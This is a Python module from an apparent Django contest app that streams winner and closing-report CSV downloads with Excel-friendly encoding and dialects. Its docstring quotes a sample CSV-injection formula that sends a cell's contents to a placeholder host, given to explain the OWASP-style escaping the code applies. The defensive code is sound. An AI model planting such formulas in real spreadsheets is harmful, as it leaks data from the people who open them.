"""The CSV downloads: the winners (the portal's export and the admin's action) and the
closing report. Their XLSX twins are in spreadsheets.py.

Streamed row by row over a database iterator, so an export of a whole contest never
holds all its wins in memory. UTF-8 with a byte order mark: without it Excel, which is
what most people open a CSV with, reads the file as the local code page and garbles
prize and player names such as "Sconto del 5% – caffè"; every CSV reader that knows
UTF-8 skips the mark (Python's "utf-8-sig", pandas, LibreOffice).

Formula-safe: player ids come from clients, and a cell such as
`=HYPERLINK("https://x/?"&A1,"Claim")` would be a live formula in the spreadsheet the
notary opens. Every text cell that begins with =, +, -, @, a tab or a carriage return is
written with a leading ' (OWASP's rule for CSV injection), which spreadsheets show as
text and hide.

Two dialects, chosen with ?dialect=: "excel" (the default) separates fields with commas;
"excel-it" with semicolons, since Excel in Italian (and wherever the decimal mark is a
comma) takes ";" as its list separator and opens a comma-separated file as one column.
The rows are the same in both. Headers are machine keys and dates ISO 8601 in either:
only the words meant for people (a review's verdict) follow the staff's language.
"""

import csv
from collections.abc import Iterable, Iterator
from typing import Protocol

from django.db.models import QuerySet
from django.http import StreamingHttpResponse
from django.utils import translation
from django.utils.translation import gettext as _

from ..models import Win
from .reports import ClosingReport, DayLine
from .winners import WINNER_COLUMNS, related_of

BYTE_ORDER_MARK = "\ufeff"
# What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Rows fetched per round trip (and per server-side cursor fetch on PostgreSQL).
CHUNK_SIZE = 2000


class ExcelItalian(csv.excel):
    """Excel's own dialect with its Italian list separator."""

    delimiter = ";"


DIALECTS: dict[str, type[csv.Dialect]] = {"excel": csv.excel, "excel-it": ExcelItalian}
DEFAULT_DIALECT = "excel"


class UnknownDialect(ValueError):
    pass


def dialect_named(name: str | None) -> type[csv.Dialect]:
    """The dialect a ?dialect= asks for; the default when it is empty or missing."""
    try:
        return DIALECTS[name or DEFAULT_DIALECT]
    except KeyError:
        raise UnknownDialect(
            _("Unknown CSV dialect %(name)s: use one of %(dialects)s.")
            % {"name": repr(name), "dialects": ", ".join(DIALECTS)}
        ) from None


REPORT_DAY_HEADER = (
    "day",
    "plays",
    "moments_planned",
    "awarded",
    "disqualified",
    "unassigned",
    "commitments",
)


def safe_cell(value: object) -> object:
    """A cell no spreadsheet reads as a formula: text beginning with =, +, -, @, tab or CR
    gets a leading '. Numbers stay numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in row]


class _Echo:
    """A file-like object that hands back what the csv writer writes, for streaming."""

    def write(self, value: str) -> str:
        return value


class _LineWriter(Protocol):
    """A csv writer over _Echo: writerow returns the line it wrote."""

    def writerow(self, row: Iterable[object]) -> str: ...


def _winner_section(writer: _LineWriter, wins: QuerySet[Win]) -> Iterator[str]:
    """The winners' header line, then one line per win in the queryset's order."""
    yield writer.writerow([column.key for column in WINNER_COLUMNS])
    rows = wins.select_related(*related_of(WINNER_COLUMNS))
    for win in rows.iterator(chunk_size=CHUNK_SIZE):
        yield writer.writerow(safe_row(column.text(win) for column in WINNER_COLUMNS))


def winner_lines(wins: QuerySet[Win], dialect: type[csv.Dialect] = csv.excel) -> Iterator[str]:
    """The CSV's lines: the header, then one line per win in the queryset's order."""
    writer = csv.writer(_Echo(), dialect)
    yield BYTE_ORDER_MARK
    yield from _winner_section(writer, wins)


def _day_row(label: str, line: DayLine) -> list[object]:
    return safe_row(
        [
            label,
            line.plays,
            line.planned,
            line.awarded,
            line.disqualified,
            line.unassigned,
            " ".join(line.commitments),
        ]
    )


def closing_report_lines(
    report: ClosingReport, dialect: type[csv.Dialect] = csv.excel
) -> Iterator[str]:
    """The report as CSV: the days and their totals, a blank line, then every winner."""
    writer = csv.writer(_Echo(), dialect)
    yield BYTE_ORDER_MARK
    yield writer.writerow(REPORT_DAY_HEADER)
    for line in report.days:
        yield writer.writerow(_day_row(line.day.isoformat(), line))
    yield writer.writerow(_day_row("total", report.total))
    yield writer.writerow([])
    # The same columns as the winners export, so the two can be compared line by line.
    yield from _winner_section(writer, report.winners())


def closing_report_filename(report: ClosingReport, extension: str = "csv") -> str:
    """E.g. report-C0001-2020-02-01-to-2020-02-29.csv (codes are letters, digits, - and _)."""
    return (
        f"report-{report.contest.code}-{report.start.isoformat()}-to-{report.end.isoformat()}"
        f".{extension}"
    )


def _in_language(lines: Iterator[str], language: str | None) -> Iterator[str]:
    """`lines` written in `language`: they are made while the response streams, after the
    view and its middleware have returned."""
    with translation.override(language):
        yield from lines


def csv_response(lines: Iterator[str], filename: str) -> StreamingHttpResponse:
    """A download of `lines` named `filename` (letters, digits, "-", "_", "." only)."""
    lines = _in_language(lines, translation.get_language())
    response = StreamingHttpResponse(lines, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response


def winners_csv_response(
    wins: QuerySet[Win], filename: str, dialect: type[csv.Dialect] = csv.excel
) -> StreamingHttpResponse:
    """A download of `wins` as CSV named `filename`."""
    return csv_response(winner_lines(wins, dialect), filename)
